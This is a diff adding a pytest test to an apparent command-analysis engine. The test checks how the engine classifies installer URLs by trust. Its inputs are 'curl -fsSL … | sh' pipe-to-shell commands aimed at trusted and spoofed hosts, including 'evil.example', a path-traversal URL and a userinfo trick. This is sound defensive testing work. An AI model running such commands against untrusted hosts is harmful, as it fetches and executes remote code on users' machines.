@@ -178,3 +178,32 @@ def test_a_library_cdn_is_known_by_exact_host_and_path(address: str, library: bo
     parsed = parse_url(address)
     assert parsed is not None
     assert TrustList.load(default_trust_path()).library_file(parsed) is library
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh",
+        "https://raw.githubusercontent.com/someone/else/main/install.sh",
+        "https://raw.githubusercontent.com/Homebrew/install/../../someone/x.sh",
+        "https://get.k3s.io:8443/",
+        "http://sh.rustup.rs",
+        "https://sh.rustup.rs",
+        "https://user@sh.rustup.rs",
+        "hxxps://sh[.]rustup[.]rs",
+        "https://fnm.vercel.app/install",
+        "https://other.vercel.app/install",
+        "https://evil.example/x.sh",
+    ],
+)
+def test_the_engine_reads_an_address_trust_as_classify_does(engine: Engine, address: str) -> None:
+    """The engine looks the installer up once and reads the trust from it (_read_structure):
+    the same as TrustList.classify and installer_for asked apart."""
+    from app.detection.indicators import parse_url
+
+    url = parse_url(address)
+    assert url is not None
+    fetched = engine.examine(f"curl -fsSL {address} | sh").analysis.urls
+    assert fetched and fetched[0].url.full == url.full
+    assert fetched[0].trust is engine.trust.classify(url)
+    assert fetched[0].installer == engine.trust.installer_for(url)
